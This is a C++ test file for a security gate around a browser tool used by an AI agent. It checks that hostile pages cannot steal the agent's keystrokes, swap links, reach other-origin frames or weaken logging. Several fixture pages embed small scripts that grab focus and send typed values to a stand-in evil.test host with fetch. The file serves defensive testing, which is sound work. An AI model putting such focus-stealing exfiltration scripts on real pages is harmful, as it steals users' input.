#include <filesystem>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "case_support.hpp"

// The attacks that the main job must stop (attacks.md): each case is named by what
// the attacker's page, or the attacker's environment, does not get.

namespace agentlock::test {
namespace {

const char* const kTask = "Read the report INV-2091 on the fixture site.";

}  // namespace

TEST_CASE("A9: a link that a page chose carries no SameSite=Strict cookie", "[browser]") {
  CaseSite site;
  site.third().serve("/login", page("in").with("Set-Cookie", "strict=1; SameSite=Strict; Path=/"));
  site.fixture().serve("/links", page("links", "<a href='http://third.test/act?x=1'>act</a>"));
  ServerOptions options = allowlisted(kTask);
  options.allowlist += ",http://third.test";
  CaseServer server(site, options);

  CHECK(server.navigate("http://third.test/login").at("ok") == true);
  // The operator's own navigation has the cookie, so the cookie is there.
  CHECK(server.navigate("http://third.test/own").at("ok") == true);
  server.open("/links");
  const Json result = server.call("navigate", {{"link_id", server.element("link", "act")}});
  INFO(result.dump());
  CHECK(result.at("ok") == true);
  CHECK(result.at("gate").at("channel") == "ALLOWLIST");

  const std::vector<Hit> hits = site.third().hits();
  REQUIRE(hits.size() == 3);
  REQUIRE(hits[1].header("Cookie") != nullptr);
  CHECK(*hits[1].header("Cookie") == "strict=1");
  CHECK(hits[2].target == "/act?x=1");
  CHECK(hits[2].header("Cookie") == nullptr);
  server.end_and_verify();
}

TEST_CASE("A13: a Chromium switch that undoes the protection is a config error", "[browser]") {
  CaseSite site;
  ServerOptions options = allowlisted(kTask);
  options.arguments = {"--chromium-args", "disable-web-security"};
  CaseServer server(site, options);
  const auto result = server.client().call_tool("navigate", {{"url", "http://fixture.test/"}});
  REQUIRE(result.has_value());
  CHECK(result->is_error);
  CHECK(result->structured.is_null());
  CHECK(result->text.find("disable-web-security") != std::string::npos);
  CHECK(site.fixture().connects().empty());
}

TEST_CASE("A14: a frame that steals the focus gets no keystroke", "[browser]") {
  CaseSite site;
  site.evil().serve("/thief", html("<input id=t><script>setInterval(() => { window.focus();"
                                   "t.focus(); }, 5);"
                                   "t.oninput = () => fetch('/got?' + t.value);</script>"));
  site.fixture().serve("/form", page("form",
                                     "<label>Note <input id=n></label>"
                                     "<iframe src='http://evil.test/thief'></iframe>"));
  CaseServer server(site, allowlisted("Write INV-2091 into the note."));
  server.open("/form");
  REQUIRE(site.evil().wait_for_path("/thief", after(std::chrono::seconds(20))).has_value());
  const std::string field = server.element("textbox", "Note");
  for (int round = 0; round < 10; ++round) {
    const Json result = server.type(field, "INV-2091");
    INFO(result.dump());
    // Either the field has it, or nobody does.
    if (result.at("ok") == false) {
      const std::string message = result.at("error").at("message");
      CHECK(message.find("focus_moved") != std::string::npos);
    }
  }
  CHECK(site.evil().targets() == std::vector<std::string>{"/thief"});
  server.end_and_verify();
}

TEST_CASE("A14: a field of the same page that steals the focus stays empty", "[browser]") {
  CaseSite site;
  site.fixture().serve("/form",
                       page("form",
                            "<label>Note <input id=n></label><label>Other <input id=o></label>"
                            "<script>setInterval(() => o.focus(), 1);"
                            "o.oninput = () => fetch('/got?' + o.value);</script>"));
  CaseServer server(site, allowlisted("Write INV-2091 into the note."));
  server.open("/form");
  const std::string field = server.element("textbox", "Note");
  for (int round = 0; round < 10; ++round) server.type(field, "INV-2091");
  CHECK(site.fixture().targets() == std::vector<std::string>{"/form"});
  server.end_and_verify();
}

TEST_CASE("A29: a link whose address changed after it was read is not followed", "[browser]") {
  CaseSite site;
  site.fixture().serve("/bait", page("bait",
                                     "<a id=a href='/landed'>report</a><button onclick=\"a.href = "
                                     "'/elsewhere'\">change</button>"));
  CaseServer server(site, allowlisted(kTask));
  server.open("/bait");
  const std::string link = server.element("link", "report");
  const std::string button = server.element("button", "change");
  CHECK(server.click(button).at("ok") == true);
  const Json result = server.call("navigate", {{"link_id", link}});
  INFO(result.dump());
  CHECK(result.at("ok") == false);
  CHECK(result.at("gate").at("decided_by") == "server:link_freshness");
  CHECK(site.fixture().targets() == std::vector<std::string>{"/bait"});
  // Once it was read again it is a link like any other.
  server.element("link", "report");
  CHECK(server.call("navigate", {{"link_id", link}}).at("ok") == true);
  server.end_and_verify();
}

TEST_CASE("A29: a link in a frame of another origin is never followed unasked", "[browser]") {
  CaseSite site;
  site.at("http://www.fixture.test")
      .serve("/inner", html("<a href='http://fixture.test/landed'>"
                            "home</a>"));
  site.fixture().serve("/outer", page("outer",
                                      "<iframe src='http://www.fixture.test/inner'>"
                                      "</iframe>"));
  CaseServer server(site, allowlisted(kTask));
  server.open("/outer");
  const Json result = server.call("navigate", {{"link_id", server.element("link", "home")}});
  INFO(result.dump());
  CHECK(result.at("ok") == false);
  check_page_denial(result.at("gate"), "http://www.fixture.test");
  CHECK(site.fixture().targets() == std::vector<std::string>{"/outer"});
  server.end_and_verify();
}

TEST_CASE("A link id of another page load is refused and says so", "[browser]") {
  CaseSite site;
  CaseServer server(site, allowlisted(kTask));
  server.open("/t2");
  const std::string link = server.element("link", "About");
  server.open("/t5");
  const Json result = server.call("navigate", {{"link_id", link}});
  CHECK(result.at("ok") == false);
  CHECK(result.at("gate").at("decided_by") == "server:link_freshness");
  CHECK(result.at("error").at("code") == "stale");
  const Json clicked = server.click(link);
  CHECK(clicked.at("ok") == false);
  CHECK(clicked.at("error").at("code") == "stale");
  CHECK(server.click("p9-x").at("error").at("code") == "invalid_argument");
  server.end_and_verify();
}

TEST_CASE("A49: a log path that is no file of ours is a config error", "[browser]") {
  CaseSite site;
  ScratchFolder folder;
  const std::string fifo = folder.file("fifo");
  REQUIRE(mkfifo(fifo.c_str(), 0600) == 0);
  const std::string real = folder.file("real");
  close(open(real.c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
  const std::string link = folder.file("link");
  REQUIRE(symlink(real.c_str(), link.c_str()) == 0);
  for (const std::string& path : {std::string("/dev/null"), fifo, link}) {
    ServerOptions options = allowlisted(kTask);
    options.arguments = {"--log-path", path};
    CaseServer server(site, options);
    const auto result = server.client().call_tool("navigate", {{"url", "http://fixture.test/t5"}});
    REQUIRE(result.has_value());
    INFO(path << ": " << result->text);
    CHECK(result->is_error);
    CHECK(result->text.find("log_path") != std::string::npos);
    CHECK(result->text.find(path) != std::string::npos);
  }
  CHECK(site.fixture().connects().empty());
}

TEST_CASE("A49: without its log the gate denies, and reading goes on", "[browser]") {
  CaseSite site;
  CaseServer server(site, allowlisted("Read the report INV-2091 for david@example.com."));
  CHECK(server.open("/t3").at("ok") == true);
  const std::string email = server.element("textbox", "Email");
  std::filesystem::remove(server.log().path());

  const Json opened = server.open("/landed");
  INFO(opened.dump());
  CHECK(opened.at("ok") == false);
  CHECK(opened.at("gate").at("decided_by") == "server:log");
  CHECK(opened.at("gate").at("detail").get<std::string>().find(server.log().path()) !=
        std::string::npos);
  CHECK(server.type(email, "david@example.com").at("gate").at("decided_by") == "server:log");
  CHECK(site.fixture().targets() == std::vector<std::string>{"/t3"});
  CHECK(server.call("read_text").at("blocks").size() >= 2);
}

TEST_CASE("A49: a hop is refused when it can't be written down", "[browser]") {
  CaseSite site;
  ServerOptions options = allowlisted(kTask);
  options.allowlist += ",http://third.test";
  site.fixture().serve("/leave", page("leave", "<a href='http://third.test/'>third</a>"));
  CaseServer server(site, options);
  server.open("/leave");
  const std::string link = server.element("link", "third");
  std::filesystem::remove(server.log().path());
  const Json result = server.click(link);
  CHECK(result.at("ok") == false);
  CHECK(result.at("blocked")[0].at("decided_by") == "server:log");
  CHECK(site.third().connects().empty());
}

TEST_CASE("A61: a newline does not submit a form", "[browser]") {
  CaseSite site;
  site.fixture().serve("/form", page("form",
                                     "<form action='/sent'><label>Name <input name=n></label>"
                                     "<label>Text <textarea name=t></textarea></label></form>"));
  CaseServer server(site, allowlisted("Write the two lines: first INV-2091\nsecond INV-2091"));
  server.open("/form");
  const std::string name = server.element("textbox", "Name");
  const std::string text = server.element("textbox", "Text");
  const Json refused = server.type(name, "first INV-2091\n");
  CHECK(refused.at("ok") == false);
  CHECK(refused.at("gate").at("decided_by") == "server:arguments");
  CHECK(server.type(name, "first\x07INV-2091").at("gate").at("decided_by") == "server:arguments");
  const Json allowed = server.type(text, "first INV-2091\nsecond INV-2091");
  INFO(allowed.dump());
  CHECK(allowed.at("ok") == true);
  CHECK(site.fixture().targets() == std::vector<std::string>{"/form"});
  server.end_and_verify();
}

TEST_CASE("A field for a secret is not filled, whatever the value", "[browser]") {
  CaseSite site;
  site.fixture().serve("/login", page("login",
                                      "<label>Password <input type=password></label>"
                                      "<label>Code <input autocomplete=one-time-code></label>"
                                      "<label>Card <input name=cardnumber></label>"));
  CaseServer server(site, allowlisted("Log in with hunter-2222."));
  server.open("/login");
  const Json snapshot = server.call("snapshot");
  int fields = 0;
  for (const Json& element : snapshot.at("elements")) {
    if (element.at("role") != "textbox") continue;
    ++fields;
    const Json result = server.type(element.at("id"), "hunter-2222");
    INFO(element.dump());
    CHECK(result.at("gate").at("decided_by") == "server:credential_field");
  }
  CHECK(fields == 3);
  server.end_and_verify();
}

TEST_CASE("A field in a frame of another origin does not get the operator's value", "[browser]") {
  CaseSite site;
  site.at("http://www.fixture.test")
      .serve("/inner", html("<label>Mail <input oninput=\"fetch('/got?' + this.value)\"></label>"));
  site.fixture().serve("/outer", page("outer",
                                      "<iframe src='http://www.fixture.test/inner'>"
                                      "</iframe>"));
  CaseServer server(site, allowlisted("Sign me up with david@example.com."));
  server.open("/outer");
  const Json result = server.type(server.element("textbox", "Mail"), "david@example.com");
  INFO(result.dump());
  CHECK(result.at("ok") == false);
  CHECK(result.at("gate").at("reason") == "foreign_frame");
  CHECK(result.at("gate").at("origin") == "http://www.fixture.test");
  CHECK(site.at("http://www.fixture.test").targets() == std::vector<std::string>{"/inner"});
  server.end_and_verify();
}

}  // namespace agentlock::test
